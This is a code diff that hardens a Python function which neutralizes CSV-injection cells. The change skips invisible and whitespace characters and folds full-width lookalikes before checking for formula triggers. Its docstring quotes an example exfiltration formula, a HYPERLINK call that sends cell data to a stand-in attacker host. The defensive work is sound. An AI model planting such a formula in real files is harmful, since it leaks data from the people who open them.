@@ -37,6 +37,7 @@ import os
 import re
 import tempfile
 import threading
+import unicodedata
 from collections.abc import Iterable, Mapping, Sequence
 from dataclasses import dataclass
 from datetime import date, datetime
@@ -73,6 +74,8 @@ __all__ = [
 #: First characters that make a spreadsheet read a cell as a formula or control sequence (OWASP,
 #: "CSV Injection": equals, plus, minus, at, tab 0x09, carriage return 0x0D).
 CSV_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+#: What the first visible character of a formula is (after leading whitespace and invisibles).
+_FORMULA_STARTS = frozenset("=+-@")
 #: Static image formats rendered by kaleido.
 IMAGE_FORMATS = ("png", "svg", "pdf")
 #: Every format :func:`write_report` knows, in the order it writes them.
@@ -112,6 +115,13 @@ BROWSER_HELP = ("install Debian's chromium (sudo apt-get install chromium), or, 
 # CSV safety
 # ----------------------------------------------------------------------------------------------
 
+def _ignorable(ch: str) -> bool:
+    """A character a spreadsheet may skip before it looks for a formula: whitespace of any kind
+    (space, tab, newline, no-break space, ideographic space, line/paragraph separators), control
+    characters and invisible format characters (zero-width space and joiners, BOM, word joiner)."""
+    return ch.isspace() or unicodedata.category(ch) in ("Cc", "Cf", "Zs", "Zl", "Zp")
+
+
 def neutralize_csv_cell(value):
     """One cell made safe to open in a spreadsheet (OWASP CSV-injection advice).
 
@@ -120,6 +130,11 @@ def neutralize_csv_cell(value):
     ``=HYPERLINK("http://evil.example/?"&A1, "click")`` can send data away or run commands when a
     hiring lead opens the file. Such a text cell gets a leading single quote, which spreadsheets
     show as plain text.
+
+    The check is made on the first *visible* character: leading whitespace of every kind (space,
+    tab, newline, no-break space), control characters and zero-width characters are skipped first,
+    because spreadsheets trim some of them on import, and the character found is compared after
+    Unicode compatibility folding (NFKC), so a full-width ``＝`` counts as ``=``.
 
     Parameters
     ----------
@@ -130,26 +145,37 @@ def neutralize_csv_cell(value):
     Returns
     -------
     object
-        ``"'" + value`` for text beginning with one of :data:`CSV_TRIGGERS` that is not a plain
-        number, else ``value`` unchanged.
+        ``"'" + value`` for text that begins with one of :data:`CSV_TRIGGERS`, or whose first
+        visible character is ``=``, ``+``, ``-`` or ``@``, and that is not a plain number; else
+        ``value`` unchanged.
 
     Notes
     -----
-    Text that is exactly a plain decimal number (``"-0.25"``, ``"+3"``, ``"1e-3"``) is left as it
-    is: a spreadsheet reads it as that number and it cannot hold a formula. ``"-1+2"`` is not a
-    plain number and is neutralized.
+    Text that is exactly a plain decimal number (``"-0.25"``, ``"+3"``, ``"1e-3"``), optionally
+    after ASCII spaces (``" -3"``), is left as it is: a spreadsheet reads it as that number and it
+    cannot hold a formula. ``"-1+2"`` is not a plain number and is neutralized.
 
     Examples
     --------
     >>> neutralize_csv_cell("=1+1")
     "'=1+1"
+    >>> neutralize_csv_cell(" =HYPERLINK(1)")
+    "' =HYPERLINK(1)"
     >>> neutralize_csv_cell(-0.25)
     -0.25
     >>> neutralize_csv_cell("-0.25")
     '-0.25'
     """
-    if not isinstance(value, str) or not value or value[0] not in CSV_TRIGGERS:
+    if not isinstance(value, str) or not value:
         return value
+    if value[0] not in CSV_TRIGGERS:
+        i = 0
+        while i < len(value) and _ignorable(value[i]):
+            i += 1
+        if i == len(value) or unicodedata.normalize("NFKC", value[i])[:1] not in _FORMULA_STARTS:
+            return value
+        if value[:i].strip(" ") == "" and _PLAIN_NUMBER.fullmatch(value[i:]):
+            return value  # " -3": a number after plain spaces
     if _PLAIN_NUMBER.fullmatch(value):
         return value
     return "'" + value
